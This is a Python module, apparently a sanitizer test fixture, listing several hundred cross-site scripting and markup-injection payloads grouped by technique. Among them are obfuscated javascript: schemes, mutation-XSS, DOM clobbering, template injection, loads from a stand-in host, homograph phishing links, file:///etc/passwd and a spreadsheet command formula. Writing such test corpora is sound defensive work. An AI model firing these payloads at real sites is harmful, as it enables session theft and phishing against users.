"""Attacks of our own, grouped by what they try.

Whatever runs calls `canary(…)`, whatever loads asks https://canary.example/ for it: a
browser that shows all of them must see neither.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import NamedTuple


class Vector(NamedTuple):
    """An attack: *name* is its group and its number there, *text* is what is sent."""

    name: str
    text: str


HOST = "canary.example"
LOADS = f"https://{HOST}/x"
RUNS = "canary(1)"
SCRIPT = f"<script>{RUNS}</script>"
IMAGE = f"<img src=x onerror={RUNS}>"

ELEMENTS = (
    SCRIPT,
    f"<ScRiPt >{RUNS}</sCrIpT >",
    f"<script src={LOADS}></script>",
    f"<script\n>{RUNS}</script\n>",
    f"<script/x>{RUNS}</script/x>",
    f"<script type=module>import '{LOADS}'</script>",
    f"<script>{RUNS}",
    f"<scr{SCRIPT}ipt>{RUNS}</scr{SCRIPT}ipt>",
    f"<<script>{RUNS}//<</script>",
    f"<\u017fcript>{RUNS}</\u017fcript>",
    f"＜script＞{RUNS}＜/script＞",
    f"<script async defer nonce=x>{RUNS}</script>",
    f"<scri\x01pt>{RUNS}</scri\x01pt>",
    f"<iframe src=javascript:{RUNS}></iframe>",
    f"<iframe srcdoc='{SCRIPT}'></iframe>",
    f"<iframe src={LOADS} onload={RUNS}>",
    f"<frameset onload={RUNS}><frame src={LOADS}></frameset>",
    f"<object data=javascript:{RUNS}></object>",
    f"<object data={LOADS} type=text/html></object>",
    f"<embed src={LOADS}>",
    f"<embed src=data:text/html,{SCRIPT}>",
    f"<applet code={LOADS}></applet>",
    f"<portal src={LOADS}></portal>",
    f"<fencedframe config={LOADS}></fencedframe>",
    f"<form action=javascript:{RUNS}><button>go</button></form>",
    f"<form id=f></form><button form=f formaction=javascript:{RUNS}>go</button>",
    f"<isindex action=javascript:{RUNS} type=submit>",
    f"<math><mi href=javascript:{RUNS}>x</mi></math>",
    f"<svg><a xlink:href=javascript:{RUNS}><text y=20>x</text></a></svg>",
    f"<svg><animate xlink:href=#a attributeName=href values=javascript:{RUNS} /><a id=a>x</a></svg>",
    f"<svg><set attributeName=onload to={RUNS} /></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUNS}>#x' /></svg>",
    f"<custom-element onclick={RUNS}>x</custom-element>",
)

EVENTS = (
    IMAGE,
    *(
        f"<{tag} on{event}={RUNS}>"
        for tag, event in (
            ("svg", "load"),
            ("body", "load"),
            ("body", "pageshow"),
            ("body", "hashchange"),
            ("input autofocus", "focus"),
            ("select autofocus", "focus"),
            ("textarea autofocus", "focus"),
            ("details open", "toggle"),
            ("marquee", "start"),
            ("video src=x", "error"),
            ("audio src=x", "error"),
            ("video><source src=x", "error"),
            ("object data=x", "error"),
            ("link rel=stylesheet href=x", "error"),
            ("p style='animation:x'", "animationstart"),
            ("a tabindex=1 id=x href=#x", "focusin"),
            ("div contenteditable", "beforeinput"),
            ("div popover id=x", "beforetoggle"),
            ("dialog open", "close"),
            ("p", "pointerrawupdate"),
            ("a", "click"),
            ("blockquote", "mouseover"),
            ("code", "copy"),
            ("li", "contextmenu"),
            ("strong", "wheel"),
        )
    ),
    f"<img/src=x/onerror={RUNS}>",
    f"<img src=x onerror\n=\n{RUNS}\n>",
    f"<img src=x\u000conerror={RUNS}>",
    f"<img src='x'onerror='{RUNS}'>",
    f"<img src=x OnErRoR=`{RUNS}`>",
    f"<img src=x onerror={RUNS} //",
    f"<img src=x:x onerror&#61;{RUNS}>",
    f'<img src="x` `{SCRIPT}"` `>',
    f"<img src=x onerror=\u00a0{RUNS}>",
)

# What a scheme can be written as, so that a careless reader lets it pass.
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\x01javascript:",
    "\x1fjavascript:",
    "java\tscript:",
    "java\x0bscript:",
    "java\u00adscript:",
    "java\u200bscript:",
    "java\u2028script:",
    "javascript\u00a0:",
    "javascript&colon;",
    "javascript&#58;",
    "javascript&#x3A;",
    "javascript&#0000058;",
    "javascript\\:",
    "java&Tab;script:",
    "java&NewLine;script:",
    "java&#10;script:",
    "&#106;avascript:",
    "&#x6A&#x61vascript:",
    "&zwnj;javascript:",
    "j%61vascript:",
    "javascript%3A",
    "javascript://%0A",
    "javascript://https://canary.example/%0A",
    "https:javascript:",
    "http://javascript:",
    "view-source:javascript:",
    "feed:javascript:",
    "jar:javascript:",
    "livescript:",
    "mocha:",
    "vbscript:",
    "VBScript&colon;",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=canary(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:,",
    "blob:https://canary.example/",
    "filesystem:https://canary.example/",
    "file:///etc/passwd",
    "about:blank#",
    "intent://canary.example/#Intent;scheme=javascript;end;",
    "ms-settings:",
    "tel:",
    "mailto:a@canary.example?body=",
    "ftp://canary.example/",
    "ws://canary.example/",
    "//canary.example/",
    "\\\\canary.example\\",
    "/\\canary.example/",
    "https:",
    "https:/",
    "https:///",
    "?",
    "#",
    "../",
)

# Where Markdown takes an address from; `%s` stands for it.
ADDRESSED = (
    "[go](%s)",
    "[go](<%s>)",
    "[go][1]\n\n[1]: %s",
    "[go]\n\n[go]: <%s> 'title'",
    "<%s>",
    "![go](%s)",
)


def _addressed() -> Iterator[str]:
    """Every scheme in two places, and the plainest ones in all."""
    for number, scheme in enumerate(SCHEMES):
        for place in (0, number):
            yield ADDRESSED[place % len(ADDRESSED)] % (scheme + RUNS)
    for scheme, way in product(("javascript:", "data:text/html,"), ADDRESSED):
        yield way % (scheme + RUNS)


LINKS = (
    f"[a](javascript:{RUNS} 'title')",
    f"[a]( javascript:{RUNS} )",
    f"[a](\njavascript:{RUNS}\n)",
    "[a](javascript:window.onerror=canary;throw%201)",
    f"[![a](javascript:{RUNS})](javascript:{RUNS})",
    f"[a](https://{HOST}/ 'x' onclick={RUNS})",
    f"[a](https://{HOST}/{{onclick={RUNS}}}){{onclick={RUNS}}}",
    f"[a](https://{HOST}/){{: onclick='{RUNS}'}}",
    f"<javascript:{RUNS}>",
    f"<https://{HOST}/?x=javascript:{RUNS}>",
    f"<https://{HOST}/ onclick={RUNS}>",
    f"<https://{HOST}/\tonclick={RUNS}>",
    f"https://{HOST}/\u00a0onclick={RUNS}",
    f'https://{HOST}/"onclick="{RUNS}',
    f"https://{HOST}/'onclick='{RUNS}",
    f"https://{HOST}/`onclick=`{RUNS}",
    f"https://{HOST}/<script>{RUNS}</script>",
    f"https://{HOST}/&quot;onclick=&quot;{RUNS}",
    f"https://{HOST}/%22onclick=%22{RUNS}",
    f"http://{HOST}/*{IMAGE}*",
    f"javascript:{RUNS}//https://{HOST}/",
    f"javascript://{HOST}/%0a{RUNS}",
    f"www.{HOST}/onclick={RUNS} a@{HOST}",
    f"[a]: javascript:{RUNS}\n[a]: https://{HOST}/\n\n[a]",
    f"[\u1e9e]\n\n[SS]: javascript:{RUNS}",
    f"[__proto__]\n\n[__proto__]: javascript:{RUNS}",
    f"> [q]: javascript:{RUNS}\n\n[q]",
    f"[a]:\njavascript:{RUNS}\n'x'\n\n[a]",
    f"[a](https://{HOST}/\x7f\x80\x9f)",
    f"[a](//{HOST}/)",
)

TITLES = (
    *(
        f"[a](https://{HOST}/ {quoted})"
        for quoted in (
            f"'\"onmouseover=\"{RUNS}'",
            f"'\" onmouseover={RUNS} x=\"'",
            f"'\"><script>{RUNS}</script>'",
            f"'&quot;onmouseover=&quot;{RUNS}'",
            f"'&#34;&#62;{IMAGE}'",
            f"'&amp;quot;>{IMAGE}'",
            f'"\\"onmouseover=\\"{RUNS}"',
            f"\"'onmouseover='{RUNS}\"",
            f'(\\)"onmouseover={RUNS})',
            f"'`onmouseover={RUNS}`'",
            f"'\n\"\nonmouseover={RUNS}\n'",
            "'&#12;&#13;&#10;&Tab;'",
            "'&lt;/a&gt;&lt;/p&gt;'",
            "'</a></p></title></textarea></style>'",
            "'--><!--'",
            "']]>'",
            "'\u202e\u2066'",
        )
    ),
    f"[a]\n\n[a]: https://{HOST}/ '\"onmouseover=\"{RUNS}'",
    f'[a](https://{HOST}/"onmouseover="{RUNS})',
    f'[a](<https://{HOST}/"onmouseover="{RUNS}>)',
    f"[a](https://{HOST}/&quot;onmouseover=&quot;{RUNS})",
    f"[a](https://{HOST}/' \"'\"onmouseover={RUNS})",
    f'[a"onmouseover="{RUNS}](https://{HOST}/)',
    f"[<img src=x onerror={RUNS}>](https://{HOST}/)",
)

FENCES = (
    f'```"onmouseover="{RUNS}\nx\n```',
    f'```"><script>{RUNS}</script>\nx\n```',
    f"~~~'><img/src=x/onerror={RUNS}>\nx\n~~~",
    f"~~~ `onmouseover={RUNS}`\nx\n~~~",
    "```&quot;&gt;&lt;b&gt;\nx\n```",
    "```js&#34;x\nx\n```",
    "```\u2028x\u2029\nx\n```",
    "```js\tonclick=canary(1)\nx\n```",
    "```\x0conclick=canary(1)\nx\n```",
    "``` x\u00a0y\nx\n```",
    "```__proto__\nx\n```",
    "```desk-button\nx\n```",
    "```a b c\nx\n```",
    "```" + "x" * 200 + "\nx\n```",
    "```{.js onclick=canary(1)}\nx\n```",
    f"```\n</code></pre>{SCRIPT}\n```",
    f"    </code></pre>{SCRIPT}",
    f"`</code>{IMAGE}`",
    f"```\n{IMAGE}",
    f"~~~\n```\n~~~\n{IMAGE}",
    f"> ```\n{SCRIPT}\n> ```",
)

# A parser that reads what another one wrote may build a different tree of it.
MUTATIONS = (
    *(
        f"{before}<{tag}>{inside}</{tag}>{IMAGE}"
        for before in ("<svg>", "<math>")
        for tag, inside in (
            ("style", f"<a title='</style>{IMAGE}'>"),
            ("title", f"<a id='</title>{IMAGE}'>"),
            ("noscript", f"<p title='</noscript>{IMAGE}'>"),
            ("desc", f"<![CDATA[</desc>{IMAGE}]]>"),
            ("foreignObject", "<p><svg><style>*{}</style>"),
            ("annotation-xml encoding=text/html", f"<style><img title='</style>{IMAGE}'>"),
        )
    ),
    *(
        f"<{tag}><p title='</{tag}>{IMAGE}'></{tag}>"
        for tag in (
            "style",
            "title",
            "textarea",
            "xmp",
            "plaintext",
            "noscript",
            "noembed",
            "noframes",
            "iframe",
            "template",
            "select",
            "option",
            "table",
            "script",
        )
    ),
    *(f"</{tag}>{IMAGE}" for tag in ("p", "li", "a", "code", "pre", "body", "html", "template", "script")),
    f"<math><mtext><table><mglyph><style><!--</style>{IMAGE}-->",
    f"<math><mtext><mglyph><style><math>{IMAGE}</style>",
    f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}",
    f"<svg></p><style><a id='</style>{IMAGE}'>",
    f"<template shadowrootmode=open>{SCRIPT}</template>",
    f"<select><keygen><template><style></select>{IMAGE}</style>",
    f"<table><td>{IMAGE}<table><style>",
    f"<a><p><a>{IMAGE}",
    f"<p><svg><p><a><p>{IMAGE}",
    f"<b><i></b>{IMAGE}</i>",
    f"*<b>*{IMAGE}</b>*",
    f"*[a](https://{HOST}/*){IMAGE}",
    "<svg><![CDATA[x]]><image href=" + LOADS + ">",
    f"a &lt;img src=x onerror={RUNS}&gt;",
    f"&amp;lt;img src=x onerror={RUNS}&amp;gt;",
    f"&#60;script&#62;{RUNS}&#60;/script&#62;",
    f"\\<script>{RUNS}\\</script>",
    f"<listing>&lt;{IMAGE[1:]}</listing>",
    f"<image src=x onerror={RUNS}>",
    f"<noscript><!--</noscript>{IMAGE}-->",
    "<textarea>\n\n</textarea>",
    "<plaintext>",
)

MARKUP = (
    f"<!-- --!>{IMAGE}-->",
    f"<!-->{IMAGE}-->",
    f"<!--->{IMAGE}-->",
    f"<!--\n{IMAGE}",
    f"<!-- > {SCRIPT} -->",
    f"<![CDATA[{SCRIPT}]]>",
    f"<?xml-stylesheet href='{LOADS}'?>{IMAGE}",
    f"<?php {IMAGE} ?>",
    f"<!DOCTYPE html [<!ENTITY x SYSTEM '{LOADS}'>]>&x;",
    f"<! {IMAGE}>",
    f"</ {IMAGE}>",
    f"<//{IMAGE}>",
    f"<%{IMAGE}%>",
    f"<![if gte IE 4]>{SCRIPT}<![endif]>",
    f"<!--[if IE]>{SCRIPT}<![endif]-->",
    "<",
    "<a",
    "<a href='",
    "&",
    "&#",
    "&#x;",
    "&#1114112;",
    "&#xD800;",
    "&#99999999999999999999999;",
    "&#" + "9" * 5000 + ";",
    "&" + "x" * 100 + ";",
)

CLOBBERING = (
    *(
        f"<{tag} {attribute}={word}></{tag}>"
        for (tag, attribute), word in zip(
            product(("a", "form", "p", "code"), ("id", "name")),
            (
                "cookie",
                "location",
                "body",
                "getElementById",
                "attributes",
                "__proto__",
                "constructor",
                "forms",
            ),
            strict=True,
        )
    ),
    f"<a id=config><a id=config name=url href={LOADS}>",
    f"<form id=x><output name=y>{RUNS}</output></form>",
    "<img name=currentScript>",
    "<comment-section id=comments></comment-section>",
    "<li id=comment-1 class=comment data-state=public slot=x is=x part=x>",
    "__proto__ constructor prototype hasOwnProperty toString valueOf",
    "[constructor][toString]",
    "`__proto__`{=html}",
    "# constructor {#constructor .admin}",
    "[^__proto__]: x",
)

LOADING = (
    f"![a]({LOADS})",
    f"![a]({LOADS} 'title')",
    f"![a][i]\n\n[i]: {LOADS}",
    f"![]({LOADS})",
    f"[![a]({LOADS})]({LOADS})",
    f"![![a]({LOADS})]({LOADS})",
    *(
        markup.replace("URL", LOADS)
        for markup in (
            "<img src=URL>",
            "<img srcset='URL 1x, URL 2x'>",
            "<img src=x lowsrc=URL dynsrc=URL longdesc=URL>",
            "<picture><source srcset=URL><img></picture>",
            "<video poster=URL src=URL></video>",
            "<audio src=URL autoplay></audio>",
            "<video><track default src=URL></video>",
            "<body background=URL>",
            "<table background=URL><td background=URL>",
            "<input type=image src=URL>",
            "<link rel=stylesheet href=URL>",
            "<link rel=prefetch href=URL>",
            "<link rel=dns-prefetch href=//canary.example>",
            "<link rel=manifest href=URL>",
            "<a ping=URL href=URL>x</a>",
            "<a attributionsrc=URL href=URL>x</a>",
            "<blockquote cite=URL>x</blockquote>",
            "<svg><image href=URL /></svg>",
            "<svg><feImage href=URL /></svg>",
            "<meta http-equiv=refresh content='0;url=URL'>",
            "<meta http-equiv=Set-Cookie content=x=1>",
            "<meta name=referrer content=unsafe-url>",
            "<base href=URL>",
            "<base target='<img src=URL'>",
            "<html manifest=URL>",
            '<script type=speculationrules>{"prefetch":[{"urls":["URL"]}]}</script>',
            "<style>@import 'URL';</style>",
            "<p style=\"background:url('URL')\">",
            "<p style='background:u\\72l(URL)'>",
            "<p style=behavior:url(URL)>",
            "<p style='width:expression(canary(1))'>",
            "<p style=position:fixed;inset:0;z-index:99>",
            "<p class=desk hidden>x</p>",
            "<style>*{display:none}</style>",
            "<font face=x color=url(URL)>x</font>",
        )
    ),
)

TEMPLATES = (
    "{{ 7*7 }}{{ config }}",
    "{% raw %}{{ canary(1) }}{% endraw %}",
    "{{constructor.constructor('canary(1)')()}}",
    "{{_c.constructor('canary(1)')()}}",
    "${canary(1)}#{canary(1)}*{canary(1)}",
    "<%= canary(1) %><% canary(1) %>",
    "[[canary(1)]][(canary(1))]",
    "{!canary(1)!}{{{canary(1)}}}",
    "<p ng-app ng-csp>{{$on.constructor('canary(1)')()}}</p>",
    "<p v-html=\"'<img src=x onerror=canary(1)>'\"></p>",
    "<p x-data x-init=canary(1)></p>",
    f"<p hx-get={LOADS} hx-trigger=load></p>",
    f'<p data-bind="html:\'{IMAGE}\'" data-html=true data-content="{IMAGE}"></p>',
    "`${canary(1)}`",
    "%s %(text)s {0.__class__} {text!r}",
    "]]></content><script>canary(1)</script>",
    "\\u003cscript\\u003ecanary(1)\\u003c/script\\u003e",
    "=cmd|'/c calc'!A0",
)

# Scripts that are on the page already may make markup of what they find.
GADGETS = (
    f"<p data-template='{SCRIPT}' data-src={LOADS}></p>",
    f"<a data-remote=true data-method=delete href={LOADS}>x</a>",
    f"<button command=show-modal commandfor=x onclick={RUNS}>x</button>",
    f'<p class=mermaid>graph LR;A["{IMAGE}"]</p>',
    f'```mermaid\ngraph LR;A["{IMAGE}"]\nclick A "javascript:{RUNS}"\n```',
    f"$$\\href{{javascript:{RUNS}}}{{x}}$$",
    f"```math\n\\href{{javascript:{RUNS}}}{{x}}\n```",
    f'<script type=application/ld+json>{{"@context":"{LOADS}"}}</script>',
    f'<script type=importmap>{{"imports":{{"x":"{LOADS}"}}}}</script>',
    f"<slot name=x>{IMAGE}</slot>",
    f"<include-fragment src={LOADS}></include-fragment>",
    f"<comment-section src={LOADS} site=x></comment-section>",
    f"[a](https://{HOST}/#<img/src/onerror={RUNS}>)",
    f"[a](https://{HOST}/#:~:text={RUNS})",
)

# Addresses that look like another's; those that become links must lead where they seem to.
LOOKALIKES = (
    f"[https://bank.example/](https://bank.example@{HOST}/)",
    f"https://bank.example@{HOST}/",
    f"<https://bank.example:443@{HOST}/>",
    f"[a](https://@{HOST}/)",
    f"[a](https://:@{HOST}/)",
    f"[a](https://bank.example%40{HOST}/)",
    f"[a](https://bank.example&#64;{HOST}/)",
    f"[a](https://bank.example&commat;{HOST}/)",
    f"[a](https://bank.example\uff20{HOST}/)",
    f"[a](<https://bank.example\\@{HOST}/>)",
    f"[a](https:\\\\{HOST}\\)",
    f"[a](https://{HOST}\\\\.bank.example/)",
    f"[a](https://bank.example\u2044login.{HOST}/)",
    f"[a](https://bank.example\u3002{HOST}/)",
    "[a](https://b\u0430nk.example/)",
    "https://b\u0430nk.example/",
    "https://xn--bnk-5cd.example/",
    f"https://{HOST}/%E2%80%AEelpmaxe.knab//:sptth",
    f"https://{HOST}/%00%1B%7F%C2%85%EF%BF%BE%EF%B7%90",
    f"<https://{HOST}/%E2%81%A6%C2%9B%EF%BF%BF>",
    f"https://{HOST}/\u202ecod.exe",
    f"[a](https://\u202e{HOST}/)",
    f"[a](https://{HOST}:\u0663\u0669/)",
    f"[a](https://{HOST}:99999/)",
    "[a](https://[::1]:x/)",
    "[a](https://[v1.a]/)",
    "[a](https://%00/)",
    "[a](https://a b.example/)",
    "[a](<https://a b.example/>)",
    "[a](https://2130706433/)",
    "[a](https://0x7f.1/)",
    "[a](http://169.254.169.254/)",
    "[a](https://xn--/)",
    "[a](https://../)",
    "HTTPS://CANARY.EXAMPLE/",
    f"https://{HOST}//bank.example/..;/",
    f"[a](https://{HOST}?@bank.example/)",
    f"[a](https://{HOST}#@bank.example/)",
)

# Characters that are not seen, are not characters, or end a line for one reader only.
CHARACTERS = (
    *(f"a{chr(code)}b" for code in (1, 7, 8, 11, 12, 27, 31, 127, 133, 159)),
    *(
        f"a{character}<b onclick{character}={RUNS}>"
        for character in "\u00a0\u00ad\u061c\u180e\u200b\u200e\u2028\u2029\u202e\u2066\u3000\ufeff\ufffd"
    ),
    "\ufdd0\ufffe\uffff\U0001fffe\U0010ffff",
    "&#xFFFE;&#xFFFF;&#xFDD0;&#1;&#127;&#128;&#x85;&#12;",
    "\U000e0041\U000e0042",
    "e" + "\u0301" * 400,
    "\u202e" * 50 + "\u2067" * 50,
    "> a\u2028b\u0085> c",
    f"<img\u2028src=x\u2028onerror={RUNS}>",
    f"\u0130\u0131\u017f\u212a<\u017ftyle>{RUNS}",
    f"\u2039script\u203a{RUNS}\uff1cscript\uff1e{RUNS}\uff1c/script\uff1e",
    f"\u00bcscript\u00be{RUNS}\u00bc/script\u00be",
    "+ADw-script+AD4-canary(1)+ADw-/script+AD4-",
    f"\x1b$B<script>{RUNS}</script>\x1b(B",
    f"%3Cscript%3E{RUNS}%3C/script%3E",
    f"\\x3cscript\\x3e{RUNS}",
    "\u00c0\u00bcscript\u00c0\u00be",
    f"\ufeff{SCRIPT}",
)

NESTING = (
    f"[a[b](javascript:{RUNS})](https://{HOST}/)",
    f"[a](https://{HOST}/[b](javascript:{RUNS}))",
    f"[a](https://{HOST}/(javascript:(((({RUNS}))))))",
    f"[![[a](javascript:{RUNS})]](https://{HOST}/)",
    f"[https://{HOST}/](javascript:{RUNS})",
    f"[<https://{HOST}/>](https://{HOST}/)",
    f"[a https://{HOST}/ b](https://{HOST}/)",
    f"[[a]({LOADS})]({LOADS})",
    f"[*a](https://{HOST}/)*<b>*",
    f"**[a**](https://{HOST}/)**",
    f"~~[a~~](https://{HOST}/ '~~')~~",
    f"[`a](https://{HOST}/)`",
    f"[a\n> b](javascript:{RUNS})",
    f"- [a\n- b](javascript:{RUNS})",
    f"> - > 1. > {SCRIPT}",
    "> " * 300 + SCRIPT,
    "- " * 300 + SCRIPT,
    "[" * 300 + IMAGE + "]" * 300,
    "*" * 300 + IMAGE + "*" * 300,
    "*a **b " * 300,
    "999999999. a\n1000000000. b",
    "-1. a\n0. b\n٣. c",
    f"| a |\n|---|\n| {IMAGE} |",
    f"<div markdown=1>\n\n[a](javascript:{RUNS})\n\n</div>",
    f"<details><summary>\n\n{IMAGE}\n\n</summary></details>",
    f"Term\n: {IMAGE}",
    f"[^1]\n\n[^1]: {IMAGE}",
    f"- [x] <input type=checkbox onclick={RUNS}>",
    f":a[b]{{onclick={RUNS}}}\n::: {IMAGE}\n:::",
    f"---\ntitle: {SCRIPT}\n---",
    f"@mention<{IMAGE}>#tag:smile:",
    f"*[HTML]: {IMAGE}\n\nHTML",
)

GROUPS = {
    "element": ELEMENTS,
    "event": EVENTS,
    "scheme": tuple(_addressed()),
    "link": LINKS,
    "title": TITLES,
    "fence": FENCES,
    "mutation": MUTATIONS,
    "markup": MARKUP,
    "clobbering": CLOBBERING,
    "loading": LOADING,
    "template": TEMPLATES,
    "gadget": GADGETS,
    "lookalike": LOOKALIKES,
    "character": CHARACTERS,
    "nesting": NESTING,
}

VECTORS: tuple[Vector, ...] = tuple(
    Vector(f"{group}-{number}", text)
    for group, texts in GROUPS.items()
    for number, text in enumerate(dict.fromkeys(texts), start=1)
)
